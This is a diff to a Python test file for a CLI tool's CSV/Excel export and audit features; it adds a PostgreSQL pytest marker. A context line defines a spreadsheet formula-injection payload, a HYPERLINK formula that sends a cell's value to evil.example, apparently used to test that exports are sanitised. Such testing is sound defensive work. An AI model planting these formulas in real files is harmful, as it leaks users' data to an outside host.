@@ -7,6 +7,7 @@ import csv
 import io
 from pathlib import Path
 
+import pytest
 from click.testing import CliRunner
 from openpyxl import load_workbook
 
@@ -15,6 +16,9 @@ from central.cli import cli
 from central.services import audit, signin
 
 from .conftest import PASSWORD, login
+
+# the PostgreSQL run (--backend=postgresql) keeps this file: it passes there (docs/scale.md)
+pytestmark = pytest.mark.postgresql
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
